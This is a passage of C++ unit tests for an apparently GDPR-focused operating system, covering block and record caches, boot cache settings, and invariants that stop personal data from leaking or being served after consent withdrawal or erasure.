  ASSERT_TRUE(store_->Sync().ok());
  fs_.reset();
  store_.reset();

  auto store = InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(store.ok());
  store_ = std::move(store).value();
  auto fs = FileSystem::Open(store_.get());
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  EXPECT_EQ(ToString(*fs->ReadFile("/persist/f")), "durable");
}

TEST_F(FileSystemTest, ReadingDirectoryAsFileFails) {
  ASSERT_TRUE(fs_->Mkdir("/d").ok());
  EXPECT_EQ(fs_->ReadFile("/d").status().code(),
            StatusCode::kInvalidArgument);
  EXPECT_EQ(fs_->ReadDir("/missing").status().code(),
            StatusCode::kNotFound);
}

TEST_F(FileSystemTest, ManyFilesInOneDirectory) {
  ASSERT_TRUE(fs_->Mkdir("/many").ok());
  for (int i = 0; i < 40; ++i) {
    const std::string path = "/many/f" + std::to_string(i);
    ASSERT_TRUE(fs_->WriteFile(path, ToBytes(std::to_string(i))).ok()) << i;
  }
  auto entries = fs_->ReadDir("/many");
  ASSERT_TRUE(entries.ok());
  EXPECT_EQ(entries->size(), 40u);
  EXPECT_EQ(ToString(*fs_->ReadFile("/many/f17")), "17");
}

}  // namespace
}  // namespace rgpdos::inodefs
