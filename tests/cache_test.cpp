// Caching-stack suite: the sharded LRU block cache, the generation-
// validated decoded-record cache, and the end-to-end GDPR property the
// whole design exists for — a withdrawn consent or an acknowledged
// erasure is NEVER honoured from any cache level. The race tests here
// are part of the TSan CI job.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdlib>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "blockdev/block_cache.hpp"
#include "blockdev/block_device.hpp"
#include "core/rgpdos.hpp"
#include "dbfs/record_cache.hpp"
#include "metrics/metrics.hpp"

namespace rgpdos {
namespace {

using core::ImplManifest;
using core::PdRef;
using core::ProcessingInput;
using core::ProcessingOutput;

constexpr sentinel::Domain kApp = sentinel::Domain::kApplication;
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

// ---- block cache ----------------------------------------------------------

Bytes FilledBlock(std::uint32_t block_size, std::uint8_t fill) {
  return Bytes(block_size, fill);
}

TEST(BlockCacheTest, RepeatReadsAreServedWithoutDeviceTraffic) {
  blockdev::MemBlockDevice inner(512, 16);
  blockdev::BlockCacheDevice cache(&inner, /*capacity_blocks=*/8,
                                   /*shard_count=*/2);
  ASSERT_TRUE(inner.WriteBlock(3, FilledBlock(512, 0xAB)).ok());

  Bytes out;
  ASSERT_TRUE(cache.ReadBlock(3, out).ok());
  EXPECT_EQ(out, FilledBlock(512, 0xAB));
  const std::uint64_t device_reads = inner.stats().reads;
  for (int i = 0; i < 5; ++i) {
    ASSERT_TRUE(cache.ReadBlock(3, out).ok());
    EXPECT_EQ(out, FilledBlock(512, 0xAB));
  }
  EXPECT_EQ(inner.stats().reads, device_reads);  // all hits
  const blockdev::BlockCacheStats stats = cache.CacheStats();
  EXPECT_EQ(stats.misses, 1u);
  EXPECT_EQ(stats.hits, 5u);
  EXPECT_DOUBLE_EQ(stats.HitRatio(), 5.0 / 6.0);
}

TEST(BlockCacheTest, EvictsLeastRecentlyUsedFirst) {
  blockdev::MemBlockDevice inner(512, 16);
  // One shard, two entries: eviction order is globally observable.
  blockdev::BlockCacheDevice cache(&inner, /*capacity_blocks=*/2,
                                   /*shard_count=*/1);
  for (blockdev::BlockIndex b : {0u, 1u, 2u}) {
    ASSERT_TRUE(
        inner.WriteBlock(b, FilledBlock(512, std::uint8_t(b + 1))).ok());
  }
  Bytes out;
  ASSERT_TRUE(cache.ReadBlock(0, out).ok());
  ASSERT_TRUE(cache.ReadBlock(1, out).ok());
  ASSERT_TRUE(cache.ReadBlock(0, out).ok());  // 0 becomes MRU
  ASSERT_TRUE(cache.ReadBlock(2, out).ok());  // evicts 1 (LRU), not 0
  EXPECT_EQ(cache.CacheStats().evictions, 1u);

  const std::uint64_t device_reads = inner.stats().reads;
  ASSERT_TRUE(cache.ReadBlock(0, out).ok());
  EXPECT_EQ(inner.stats().reads, device_reads);  // still cached
  ASSERT_TRUE(cache.ReadBlock(1, out).ok());
  EXPECT_EQ(inner.stats().reads, device_reads + 1);  // was evicted
}

TEST(BlockCacheTest, ShardsEvictIndependently) {
  blockdev::MemBlockDevice inner(512, 64);
  // Two shards of two blocks each; blocks map to shards by index parity.
  blockdev::BlockCacheDevice cache(&inner, /*capacity_blocks=*/4,
                                   /*shard_count=*/2);
  for (blockdev::BlockIndex b = 0; b < 10; ++b) {
    ASSERT_TRUE(
        inner.WriteBlock(b, FilledBlock(512, std::uint8_t(b + 1))).ok());
  }
  Bytes out;
  ASSERT_TRUE(cache.ReadBlock(1, out).ok());
  ASSERT_TRUE(cache.ReadBlock(3, out).ok());
  // Churn the even shard far past its capacity.
  for (blockdev::BlockIndex b : {0u, 2u, 4u, 6u, 8u}) {
    ASSERT_TRUE(cache.ReadBlock(b, out).ok());
  }
  // The odd shard kept its working set.
  const std::uint64_t device_reads = inner.stats().reads;
  ASSERT_TRUE(cache.ReadBlock(1, out).ok());
  ASSERT_TRUE(cache.ReadBlock(3, out).ok());
  EXPECT_EQ(inner.stats().reads, device_reads);
}

TEST(BlockCacheTest, WriteThroughUpdatesDeviceAndCachedCopy) {
  blockdev::MemBlockDevice inner(512, 16);
  blockdev::BlockCacheDevice cache(&inner, 8, 2);
  ASSERT_TRUE(inner.WriteBlock(5, FilledBlock(512, 0x01)).ok());
  Bytes out;
  ASSERT_TRUE(cache.ReadBlock(5, out).ok());  // now cached

  ASSERT_TRUE(cache.WriteBlock(5, FilledBlock(512, 0x02)).ok());
  // The device saw the write (write-through, not write-back) ...
  ASSERT_TRUE(inner.ReadBlock(5, out).ok());
  EXPECT_EQ(out, FilledBlock(512, 0x02));
  // ... and the cached copy was updated, not left stale.
  const std::uint64_t device_reads = inner.stats().reads;
  ASSERT_TRUE(cache.ReadBlock(5, out).ok());
  EXPECT_EQ(out, FilledBlock(512, 0x02));
  EXPECT_EQ(inner.stats().reads, device_reads);
}

TEST(BlockCacheTest, WritesNeverAllocateCacheEntries) {
  blockdev::MemBlockDevice inner(512, 16);
  blockdev::BlockCacheDevice cache(&inner, 8, 2);
  ASSERT_TRUE(cache.WriteBlock(7, FilledBlock(512, 0x07)).ok());
  EXPECT_EQ(cache.CachedBlockCount(), 0u);  // no write-allocate
}

TEST(BlockCacheTest, InvalidateDropsTheCachedBlock) {
  blockdev::MemBlockDevice inner(512, 16);
  blockdev::BlockCacheDevice cache(&inner, 8, 2);
  ASSERT_TRUE(inner.WriteBlock(4, FilledBlock(512, 0x04)).ok());
  Bytes out;
  ASSERT_TRUE(cache.ReadBlock(4, out).ok());
  ASSERT_EQ(cache.CachedBlockCount(), 1u);

  cache.InvalidateCached(4);
  EXPECT_EQ(cache.CachedBlockCount(), 0u);
  EXPECT_EQ(cache.CacheStats().invalidations, 1u);
  const std::uint64_t device_reads = inner.stats().reads;
  ASSERT_TRUE(cache.ReadBlock(4, out).ok());
  EXPECT_EQ(inner.stats().reads, device_reads + 1);  // re-read from device
}

TEST(BlockCacheTest, DeviceStatsPassThroughCountsOnlyRealTraffic) {
  blockdev::MemBlockDevice inner(512, 16);
  blockdev::BlockCacheDevice cache(&inner, 8, 2);
  ASSERT_TRUE(inner.WriteBlock(1, FilledBlock(512, 0x11)).ok());
  Bytes out;
  ASSERT_TRUE(cache.ReadBlock(1, out).ok());
  ASSERT_TRUE(cache.ReadBlock(1, out).ok());
  ASSERT_TRUE(cache.ReadBlock(1, out).ok());
  // stats() is the inner device's: two hits added nothing.
  EXPECT_EQ(&cache.stats(), &inner.stats());
  EXPECT_EQ(cache.stats().reads, 1u);
}

// TSan-targeted hammer: concurrent readers, writers and invalidators
// over shared blocks. Afterwards, every block the cache serves must be
// byte-identical to the device — a stale cached copy is the bug class
// the epoch-guarded miss-fill exists to prevent.
TEST(BlockCacheTest, ConcurrentMixedTrafficStaysCoherent) {
  constexpr std::uint32_t kBlockSize = 256;
  constexpr std::uint64_t kBlocks = 32;
  blockdev::MemBlockDevice inner(kBlockSize, kBlocks);
  blockdev::BlockCacheDevice cache(&inner, /*capacity_blocks=*/16,
                                   /*shard_count=*/4);
  for (blockdev::BlockIndex b = 0; b < kBlocks; ++b) {
    ASSERT_TRUE(inner.WriteBlock(b, FilledBlock(kBlockSize, 0)).ok());
  }

  std::atomic<bool> stop{false};
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 2; ++t) {  // readers
    threads.emplace_back([&, t] {
      Bytes out;
      std::uint64_t i = static_cast<std::uint64_t>(t);
      while (!stop.load(std::memory_order_acquire)) {
        if (!cache.ReadBlock((i++ * 7) % kBlocks, out).ok()) ++failures;
      }
    });
  }
  threads.emplace_back([&] {  // writer
    for (std::uint32_t round = 1; round <= 200; ++round) {
      const blockdev::BlockIndex b = (round * 5) % kBlocks;
      if (!cache.WriteBlock(b, FilledBlock(kBlockSize,
                                           std::uint8_t(round & 0xFF)))
               .ok()) {
        ++failures;
      }
    }
    stop.store(true, std::memory_order_release);
  });
  threads.emplace_back([&] {  // invalidator
    std::uint64_t i = 0;
    while (!stop.load(std::memory_order_acquire)) {
      cache.InvalidateCached((i++ * 3) % kBlocks);
    }
  });
  for (std::thread& t : threads) t.join();
  EXPECT_EQ(failures.load(), 0);

  for (blockdev::BlockIndex b = 0; b < kBlocks; ++b) {
    Bytes via_cache;
    Bytes via_device;
    ASSERT_TRUE(cache.ReadBlock(b, via_cache).ok());
    ASSERT_TRUE(inner.ReadBlock(b, via_device).ok());
    EXPECT_EQ(via_cache, via_device) << "stale cached block " << b;
  }
}

// ---- record cache ---------------------------------------------------------

dbfs::RecordCache::Entry MakeEntry(dbfs::SubjectId subject,
                                   std::uint64_t generation,
                                   bool has_row = true) {
  dbfs::RecordCache::Entry entry;
  entry.subject_id = subject;
  entry.type_name = "user";
  entry.membrane.subject_id = subject;
  entry.membrane.type_name = "user";
  entry.row = db::Row{db::Value(std::int64_t{1990})};
  entry.has_row = has_row;
  entry.generation = generation;
  return entry;
}

TEST(RecordCacheTest, LookupValidatesTheSubjectGeneration) {
  dbfs::RecordCache cache(/*capacity=*/64, /*generation_shards=*/16);
  cache.Insert(1, MakeEntry(7, cache.generation(7)));
  EXPECT_TRUE(cache.Lookup(1, /*need_row=*/true).has_value());

  // An in-flight mutation (odd generation) makes every lookup miss ...
  cache.BeginMutation(7);
  EXPECT_FALSE(cache.Lookup(1, true).has_value());
  cache.Erase(1);
  cache.EndMutation(7);
  // ... and a completed one keeps old stamps invalid forever.
  EXPECT_FALSE(cache.Lookup(1, true).has_value());

  // A fresh fill at the new generation serves again.
  cache.Insert(1, MakeEntry(7, cache.generation(7)));
  EXPECT_TRUE(cache.Lookup(1, true).has_value());
}

TEST(RecordCacheTest, MembraneOnlyFillsServeOnlyMembraneLookups) {
  dbfs::RecordCache cache(64, 16);
  cache.Insert(2, MakeEntry(3, cache.generation(3), /*has_row=*/false));
  EXPECT_TRUE(cache.Lookup(2, /*need_row=*/false).has_value());
  EXPECT_FALSE(cache.Lookup(2, /*need_row=*/true).has_value());

  // A full fill upgrades; a later membrane-only fill must not downgrade.
  cache.Insert(2, MakeEntry(3, cache.generation(3), /*has_row=*/true));
  cache.Insert(2, MakeEntry(3, cache.generation(3), /*has_row=*/false));
  EXPECT_TRUE(cache.Lookup(2, /*need_row=*/true).has_value());
}

TEST(RecordCacheTest, CapacityBoundsHoldUnderChurn) {
  dbfs::RecordCache cache(/*capacity=*/16, /*generation_shards=*/16);
  for (dbfs::RecordId id = 1; id <= 200; ++id) {
    cache.Insert(id, MakeEntry(id % 5, cache.generation(id % 5)));
  }
  EXPECT_LE(cache.size(), cache.capacity());
  EXPECT_GT(cache.size(), 0u);
}

// ---- boot wiring ----------------------------------------------------------

// The cached-path tests must work under the CI nocache matrix run too
// (RGPDOS_CACHE=0 in the environment), so they clear the override
// before booting: they test the caches themselves, not the knob. Each
// gtest case runs in its own process, so this never leaks.
void ForceCachesAvailable() { unsetenv("RGPDOS_CACHE"); }

TEST(BootCacheConfigTest, DefaultBootEnablesEveryCacheLevel) {
  ForceCachesAvailable();
  auto os = core::RgpdOs::Boot({});
  ASSERT_TRUE(os.ok());
  EXPECT_NE((*os)->dbfs_cache(), nullptr);
  EXPECT_NE((*os)->dbfs().record_cache(), nullptr);
  EXPECT_EQ((*os)->dbfs_latency(), nullptr);  // no cost model by default
}

TEST(BootCacheConfigTest, ZeroKnobsRestoreTheUncachedPath) {
  core::BootConfig config;
  config.cache_blocks = 0;
  config.cache_record_entries = 0;
  config.cache_decisions = false;
  auto os = core::RgpdOs::Boot(config);
  ASSERT_TRUE(os.ok());
  EXPECT_EQ((*os)->dbfs_cache(), nullptr);
  EXPECT_EQ((*os)->sensitive_cache(), nullptr);
  EXPECT_EQ((*os)->dbfs().record_cache(), nullptr);
}

TEST(BootCacheConfigTest, EnvVarForcesCachesOffAtRuntime) {
  ASSERT_EQ(setenv("RGPDOS_CACHE", "0", /*overwrite=*/1), 0);
  auto os = core::RgpdOs::Boot({});
  unsetenv("RGPDOS_CACHE");
  ASSERT_TRUE(os.ok());
  EXPECT_EQ((*os)->dbfs_cache(), nullptr);
  EXPECT_EQ((*os)->dbfs().record_cache(), nullptr);
}

TEST(BootCacheConfigTest, SplitSensitiveGetsItsOwnCache) {
  ForceCachesAvailable();
  core::BootConfig config;
  config.split_sensitive = true;
  auto os = core::RgpdOs::Boot(config);
  ASSERT_TRUE(os.ok());
  EXPECT_NE((*os)->dbfs_cache(), nullptr);
  EXPECT_NE((*os)->sensitive_cache(), nullptr);
  EXPECT_NE((*os)->dbfs_cache(), (*os)->sensitive_cache());
}

TEST(MetricsDerivedGaugeTest, SnapshotExportsBlockHitRatio) {
  // Drive some traffic through a cache so the global counters are live.
  blockdev::MemBlockDevice inner(512, 8);
  blockdev::BlockCacheDevice cache(&inner, 4, 1);
  ASSERT_TRUE(inner.WriteBlock(0, FilledBlock(512, 1)).ok());
  Bytes out;
  ASSERT_TRUE(cache.ReadBlock(0, out).ok());
  ASSERT_TRUE(cache.ReadBlock(0, out).ok());

  const metrics::MetricsSnapshot snapshot =
      metrics::MetricsRegistry::Instance().Snapshot();
  const std::int64_t* ratio = snapshot.FindGauge("cache.block.hit_ratio");
  ASSERT_NE(ratio, nullptr);
  EXPECT_GE(*ratio, 0);
  EXPECT_LE(*ratio, 100);
}

// ---- end-to-end GDPR properties -------------------------------------------

constexpr std::string_view kTypes = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose3: v_ano };
  origin: subject;
  sensitivity: high;
}
type age {
  fields { value: int };
  consent { purpose1: all };
  origin: subject;
  sensitivity: low;
}
)";

class CachedWorldTest : public ::testing::Test {
 protected:
  static std::unique_ptr<core::RgpdOs> BootWorld(
      unsigned worker_threads = 1, bool caches_on = true) {
    if (caches_on) unsetenv("RGPDOS_CACHE");
    core::BootConfig config;
    config.seed = 7;
    config.worker_threads = worker_threads;
    if (!caches_on) {
      config.cache_blocks = 0;
      config.cache_record_entries = 0;
      config.cache_decisions = false;
    }
    auto os = core::RgpdOs::Boot(config);
    EXPECT_TRUE(os.ok());
    std::unique_ptr<core::RgpdOs> world = std::move(os).value();
    EXPECT_TRUE(world->DeclareTypes(kTypes).ok());
    return world;
  }

  static dbfs::RecordId PutUser(core::RgpdOs& os, std::uint64_t subject,
                                const std::string& name) {
    auto type = os.dbfs().GetType(kDed, "user");
    membrane::Membrane m = (*type)->DefaultMembrane(subject, os.clock().Now());
    auto id = os.dbfs().Put(
        kDed, subject, "user",
        db::Row{db::Value(name), db::Value(std::string("pw")),
                db::Value(std::int64_t{1990})},
        std::move(m));
    EXPECT_TRUE(id.ok());
    return *id;
  }

  static core::ProcessingId RegisterPurpose3(
      core::RgpdOs& os, core::ProcessingFn fn = nullptr) {
    ImplManifest manifest;
    manifest.claimed_purpose = "purpose3";
    manifest.fields_read = {"year_of_birthdate"};
    manifest.output_type = "";
    if (!fn) {
      fn = [](ProcessingInput&) -> Result<ProcessingOutput> {
        return ProcessingOutput{};
      };
    }
    auto id = os.RegisterProcessingSource(
        "purpose purpose3 { input: user.v_ano; }", std::move(fn), manifest);
    EXPECT_TRUE(id.ok());
    return *id;
  }
};

// Reads are actually served from the caches, and a mutation invalidates:
// the cached row must never shadow a rectification (GDPR Art. 16).
TEST_F(CachedWorldTest, UpdateInvalidatesTheCachedRecord) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();
  const dbfs::RecordId id = PutUser(*os, 1, "before");
  ASSERT_TRUE(os->dbfs().Get(kDed, id).ok());  // fill the record cache
  ASSERT_GT(os->dbfs().cached_record_count(), 0u);

  const std::uint64_t generation_before = os->dbfs().SubjectGeneration(1);
  ASSERT_TRUE(os->builtins()
                  .Update(PdRef{id, "user"},
                          db::Row{db::Value(std::string("after")),
                                  db::Value(std::string("pw")),
                                  db::Value(std::int64_t{1991})})
                  .ok());
  // Every acknowledged mutation advances the generation by exactly 2
  // (odd while in flight, even at ack).
  EXPECT_EQ(os->dbfs().SubjectGeneration(1), generation_before + 2);

  auto record = os->dbfs().Get(kDed, id);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(*record->row[0].AsString(), "after");
}

// The headline stale-consent regression: consent is withdrawn WHILE an
// invoke is mid-pipeline, over fully warmed caches. Records decided
// after the withdrawal acked must be filtered — serving the
// pre-withdrawal membrane from any cache level would be a GDPR
// violation, not a perf bug.
TEST_F(CachedWorldTest, WithdrawMidInvokeIsNeverServedFromAnyCache) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();

  std::vector<dbfs::RecordId> records;
  for (int r = 0; r < 4; ++r) records.push_back(PutUser(*os, 1, "u"));

  std::mutex mu;
  std::condition_variable cv;
  std::atomic<bool> armed{false};
  bool reached_execute = false;
  bool withdrawal_done = false;
  const core::ProcessingId processing = RegisterPurpose3(
      *os, [&](ProcessingInput&) -> Result<ProcessingOutput> {
        if (armed.load(std::memory_order_acquire)) {
          std::unique_lock<std::mutex> lock(mu);
          if (!reached_execute) {
            // First record of the armed invoke: let the test thread
            // withdraw consent, then wait for its ack before the
            // pipeline moves on to the remaining records.
            reached_execute = true;
            cv.notify_all();
            cv.wait_for(lock, std::chrono::seconds(10),
                        [&] { return withdrawal_done; });
          }
        }
        return ProcessingOutput{};
      });

  // Warm every cache level: all four records processed once.
  auto warm = os->ps().Invoke(kApp, processing);
  ASSERT_TRUE(warm.ok());
  ASSERT_EQ(warm->records_processed, 4u);
  ASSERT_GT(os->dbfs().cached_record_count(), 0u);

  armed.store(true, std::memory_order_release);
  std::thread invoker([&] {
    auto result = os->ps().Invoke(kApp, processing);
    ASSERT_TRUE(result.ok());
    // One record was executing when the withdrawal landed; the other
    // three were decided after its ack and must all be filtered.
    EXPECT_EQ(result->records_processed, 1u);
    EXPECT_EQ(result->records_filtered_out, 3u);
  });

  {
    std::unique_lock<std::mutex> lock(mu);
    ASSERT_TRUE(cv.wait_for(lock, std::chrono::seconds(10),
                            [&] { return reached_execute; }));
  }
  // Withdraw purpose3 for every record of the subject. When these calls
  // return, the generation bumps are acknowledged.
  for (dbfs::RecordId id : records) {
    ASSERT_TRUE(
        os->builtins().RevokeConsent(PdRef{id, "user"}, "purpose3").ok());
  }
  {
    std::lock_guard<std::mutex> lock(mu);
    withdrawal_done = true;
  }
  cv.notify_all();
  invoker.join();

  // And the withdrawal stays effective: a fresh invoke over the (again
  // warm) caches processes nothing.
  auto settled = os->ps().Invoke(kApp, processing);
  ASSERT_TRUE(settled.ok());
  EXPECT_EQ(settled->records_processed, 0u);
  EXPECT_EQ(settled->records_filtered_out, 4u);
}

// Satellite regression: right-to-be-forgotten under concurrent invokes.
// The instant the erasure call returns, every cache level must already
// be purged — a Get must see the envelope, never the cached row.
TEST_F(CachedWorldTest, ErasureUnderConcurrentInvokesPurgesEveryCache) {
  std::unique_ptr<core::RgpdOs> os = BootWorld(/*worker_threads=*/2);
  const core::ProcessingId processing = RegisterPurpose3(*os);

  std::vector<dbfs::RecordId> doomed;
  for (int r = 0; r < 3; ++r) doomed.push_back(PutUser(*os, 3, "doomed"));
  for (int r = 0; r < 3; ++r) PutUser(*os, 4, "kept");

  // Warm the caches over the full population.
  auto warm = os->ps().Invoke(kApp, processing);
  ASSERT_TRUE(warm.ok());
  ASSERT_EQ(warm->records_processed, 6u);

  std::atomic<bool> stop{false};
  std::atomic<int> failures{0};
  std::vector<std::thread> invokers;
  for (int t = 0; t < 2; ++t) {
    invokers.emplace_back([&] {
      while (!stop.load(std::memory_order_acquire)) {
        auto result = os->ps().Invoke(kApp, processing);
        if (!result.ok() ||
            result->records_considered != result->records_processed +
                                              result->records_filtered_out) {
          ++failures;
        }
      }
    });
  }

  auto erased = os->RightToBeForgotten(3);
  ASSERT_TRUE(erased.ok());
  EXPECT_GE(*erased, doomed.size());
  // The ack is the deadline: stale cache hits after this point are the
  // regression this test exists for.
  for (dbfs::RecordId id : doomed) {
    auto record = os->dbfs().Get(kDed, id);
    ASSERT_TRUE(record.ok()) << id;
    EXPECT_TRUE(record->erased) << "cached row served after erasure ack";
    EXPECT_TRUE(os->dbfs().GetEnvelope(kDed, id).ok()) << id;
  }

  stop.store(true, std::memory_order_release);
  for (std::thread& t : invokers) t.join();
  EXPECT_EQ(failures.load(), 0);

  // Quiesced: only subject 4's records are processed.
  auto settled = os->ps().Invoke(kApp, processing);
  ASSERT_TRUE(settled.ok());
  EXPECT_EQ(settled->records_processed, 3u);
  EXPECT_TRUE(os->processing_log().VerifyChain());
}

// Caching is a pure optimisation: cached and uncached worlds, serial and
// parallel, must report identical invoke semantics over identical data.
TEST_F(CachedWorldTest, CachedInvokeMatchesUncachedSemantics) {
  std::unique_ptr<core::RgpdOs> cached = BootWorld(/*worker_threads=*/4,
                                                   /*caches_on=*/true);
  std::unique_ptr<core::RgpdOs> uncached = BootWorld(/*worker_threads=*/1,
                                                     /*caches_on=*/false);
  for (auto* os : {cached.get(), uncached.get()}) {
    std::vector<dbfs::RecordId> ids;
    for (std::uint64_t subject = 1; subject <= 4; ++subject) {
      for (int r = 0; r < 3; ++r) ids.push_back(PutUser(*os, subject, "u"));
    }
    // Subject 2 withdraws purpose3 consent before any invoke.
    for (dbfs::RecordId id : ids) {
      auto m = os->dbfs().GetMembrane(kDed, id);
      ASSERT_TRUE(m.ok());
      if (m->subject_id == 2) {
        ASSERT_TRUE(
            os->builtins().RevokeConsent(PdRef{id, "user"}, "purpose3").ok());
      }
    }
  }
  const core::ProcessingId cached_id = RegisterPurpose3(*cached);
  const core::ProcessingId uncached_id = RegisterPurpose3(*uncached);

  // Two rounds: the second runs over warm caches in the cached world.
  for (int round = 0; round < 2; ++round) {
    auto cached_result = cached->ps().Invoke(kApp, cached_id);
    auto uncached_result = uncached->ps().Invoke(kApp, uncached_id);
    ASSERT_TRUE(cached_result.ok());
    ASSERT_TRUE(uncached_result.ok());
    EXPECT_EQ(cached_result->records_considered,
              uncached_result->records_considered)
        << "round " << round;
    EXPECT_EQ(cached_result->records_processed,
              uncached_result->records_processed)
        << "round " << round;
    EXPECT_EQ(cached_result->records_filtered_out,
              uncached_result->records_filtered_out)
        << "round " << round;
  }
  EXPECT_EQ(cached->processing_log().entry_count(),
            uncached->processing_log().entry_count());
  EXPECT_TRUE(cached->processing_log().VerifyChain());
}

}  // namespace
}  // namespace rgpdos
