// Enforcement-invariant suite: DESIGN.md E1-E10 as executable checks.
// Some invariants also appear in module tests; this file states each one
// explicitly, end to end, against the booted system.
#include <gtest/gtest.h>

#include "core/rgpdos.hpp"

namespace rgpdos {
namespace {

using core::ImplManifest;
using core::PdRef;
using core::ProcessingInput;
using core::ProcessingOutput;

constexpr sentinel::Domain kApp = sentinel::Domain::kApplication;
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

constexpr std::string_view kTypes = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose3: v_ano };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}
type age {
  fields { value: int };
  consent { purpose1: all };
  origin: subject;
  sensitivity: low;
}
)";

class EnforcementTest : public ::testing::Test {
 protected:
  void SetUp() override {
    core::BootConfig config;
    config.use_sim_clock = true;
    auto os = core::RgpdOs::Boot(config);
    ASSERT_TRUE(os.ok());
    os_ = std::move(os).value();
    ASSERT_TRUE(os_->DeclareTypes(kTypes).ok());
  }

  dbfs::RecordId PutUser(std::uint64_t subject, const std::string& name) {
    auto type = os_->dbfs().GetType(kDed, "user");
    membrane::Membrane m =
        (*type)->DefaultMembrane(subject, os_->clock().Now());
    auto id = os_->dbfs().Put(
        kDed, subject, "user",
        db::Row{db::Value(name), db::Value(std::string("pw")),
                db::Value(std::int64_t{1990})},
        std::move(m));
    EXPECT_TRUE(id.ok());
    return *id;
  }

  core::ProcessingId RegisterPurpose3() {
    ImplManifest manifest;
    manifest.claimed_purpose = "purpose3";
    manifest.fields_read = {"year_of_birthdate"};
    manifest.output_type = "age";
    auto id = os_->RegisterProcessingSource(
        "purpose purpose3 { input: user.v_ano; output: age; }",
        [](ProcessingInput& input) -> Result<ProcessingOutput> {
          ProcessingOutput output;
          if (input.Has("year_of_birthdate")) {
            output.derived_row =
                db::Row{db::Value(std::int64_t{2026} -
                                  *(*input.Field("year_of_birthdate"))
                                       .AsInt())};
          }
          return output;
        },
        manifest);
    EXPECT_TRUE(id.ok());
    return *id;
  }

  std::unique_ptr<core::RgpdOs> os_;
};

// E1/E2: PS is the only reachable entry point; the DED class itself is
// not constructible outside PS (compile-time PassKey); at runtime, every
// other domain bounces off the sentinel.
TEST_F(EnforcementTest, E1E2_PsIsTheOnlyEntryPoint) {
  for (sentinel::Domain d :
       {sentinel::Domain::kOutside, sentinel::Domain::kGeneralKernel,
        sentinel::Domain::kIoKernel}) {
    auto invoke = os_->ps().Invoke(d, 1, {});
    EXPECT_EQ(invoke.status().code(), StatusCode::kAccessBlocked)
        << sentinel::DomainName(d);
  }
  // Applications can invoke through PS (and only through PS).
  const core::ProcessingId id = RegisterPurpose3();
  PutUser(1, "a");
  EXPECT_TRUE(os_->ps().Invoke(kApp, id, {}).ok());
}

// E3: every record in DBFS carries a membrane — verified structurally on
// the write path, and here by scanning all records post-hoc.
TEST_F(EnforcementTest, E3_EveryStoredRecordHasAMembrane) {
  const core::ProcessingId id = RegisterPurpose3();
  PutUser(1, "a");
  PutUser(2, "b");
  ASSERT_TRUE(os_->ps().Invoke(kApp, id, {}).ok());  // derives `age` rows
  auto users = os_->dbfs().RecordsOfType(kDed, "user");
  auto ages = os_->dbfs().RecordsOfType(kDed, "age");
  ASSERT_TRUE(users.ok() && ages.ok());
  std::vector<dbfs::RecordId> all = *users;
  all.insert(all.end(), ages->begin(), ages->end());
  ASSERT_EQ(all.size(), 4u);
  for (dbfs::RecordId record : all) {
    auto membrane = os_->dbfs().GetMembrane(kDed, record);
    ASSERT_TRUE(membrane.ok()) << record;
    EXPECT_FALSE(membrane->type_name.empty());
    EXPECT_NE(membrane->subject_id, 0u);
  }
}

// E4: only the DED reaches DBFS records; every other domain is denied
// AND audited.
TEST_F(EnforcementTest, E4_OnlyDedReachesDbfs) {
  const dbfs::RecordId record = PutUser(1, "a");
  const std::uint64_t denied_before = os_->audit().denied_count();
  int denials = 0;
  for (sentinel::Domain d :
       {sentinel::Domain::kOutside, sentinel::Domain::kApplication,
        sentinel::Domain::kGeneralKernel, sentinel::Domain::kSysadmin,
        sentinel::Domain::kIoKernel, sentinel::Domain::kAuthority}) {
    if (!os_->dbfs().Get(d, record).ok()) ++denials;
  }
  EXPECT_EQ(denials, 6);
  EXPECT_EQ(os_->audit().denied_count(), denied_before + 6);
}

// E5: processings return PdRefs and NPD — never PD bytes.
TEST_F(EnforcementTest, E5_NoPdByValueInResults) {
  const core::ProcessingId id = RegisterPurpose3();
  PutUser(1, "supercalifragilistic_name");
  auto result = os_->ps().Invoke(kApp, id, {});
  ASSERT_TRUE(result.ok());
  const Bytes needle = ToBytes("supercalifragilistic_name");
  for (const Bytes& npd : result->npd_outputs) {
    EXPECT_FALSE(ContainsSubsequence(npd, needle));
  }
  ASSERT_EQ(result->derived.size(), 1u);
  // The ref is just an id + type name; dereferencing requires the DED.
  EXPECT_EQ(result->derived[0].type_name, "age");
}

// E6: leak-capable syscalls are denied inside F_pd^r code.
TEST_F(EnforcementTest, E6_SyscallFilterBlocksLeaks) {
  ImplManifest manifest;
  manifest.claimed_purpose = "purpose1";
  manifest.fields_read = {"name"};  // declared honestly (runtime verifier)
  auto id = os_->RegisterProcessingSource(
      "purpose purpose1 { input: user; }",
      [](ProcessingInput& input) -> Result<ProcessingOutput> {
        auto name = input.Field("name");
        EXPECT_TRUE(name.ok());  // purpose1 sees everything...
        const Bytes pd = ToBytes(*name->AsString());
        // ...but cannot push it out of the DED.
        EXPECT_EQ(input.syscalls().Write(pd).code(),
                  StatusCode::kSyscallDenied);
        EXPECT_EQ(input.syscalls().Send(pd).code(),
                  StatusCode::kSyscallDenied);
        EXPECT_TRUE(input.syscalls().leaked().empty());
        return ProcessingOutput{};
      },
      manifest);
  ASSERT_TRUE(id.ok());
  PutUser(1, "leakme");
  EXPECT_TRUE(os_->ps().Invoke(kApp, *id, {}).ok());
}

// E7: membranes stay consistent across copies.
TEST_F(EnforcementTest, E7_CopyGroupConsistencyUnderChains) {
  const dbfs::RecordId original = PutUser(1, "a");
  auto c1 = os_->builtins().Copy(PdRef{original, "user"});
  ASSERT_TRUE(c1.ok());
  auto c2 = os_->builtins().Copy(*c1);  // copy of the copy
